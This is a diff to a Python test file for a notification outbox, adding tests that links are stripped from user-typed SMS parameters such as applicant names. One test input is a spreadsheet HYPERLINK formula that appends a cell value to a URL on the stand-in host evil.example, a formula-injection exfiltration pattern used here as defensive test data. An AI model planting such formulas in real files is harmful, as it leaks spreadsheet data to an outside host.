@@ -11,7 +11,13 @@ from arq.connections import RedisSettings
 from sqlalchemy import update
 from sqlmodel import select
 
-from services.kit.outbox import Notification, add_notification, relay
+from services.kit.outbox import (
+    Notification,
+    add_notification,
+    param_has_url,
+    relay,
+    without_urls,
+)
 from services.kit.queue import NOTIFY_QUEUE
 from tests.conftest import Stack
 
@@ -139,3 +145,22 @@ async def test_url_params_are_refused(maker) -> None:
                 params={"name": "详见 https://example.cn/x", "title": "中级"},
                 dedupe_key=f"test:{uuid.uuid4()}",
             )
+
+
+@pytest.mark.parametrize(
+    ("typed", "kept"),
+    [
+        (
+            '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
+            '=HYPERLINK("evil.example/?x="&A1,"点击")',
+        ),
+        ("韦工 www.example.cn", "韦工 "),
+        ("详见 https://evil.com/x", "详见 /x"),
+        ("韦工", "韦工"),
+    ],
+)
+def test_text_a_person_typed_loses_its_links_not_the_notice(typed: str, kept: str) -> None:
+    """An applicant's name is theirs to type: a link in it is taken out of the SMS
+    parameter (which then passes the outbox's guard), rather than failing the act."""
+    assert without_urls(typed) == kept
+    assert not param_has_url(without_urls(typed))
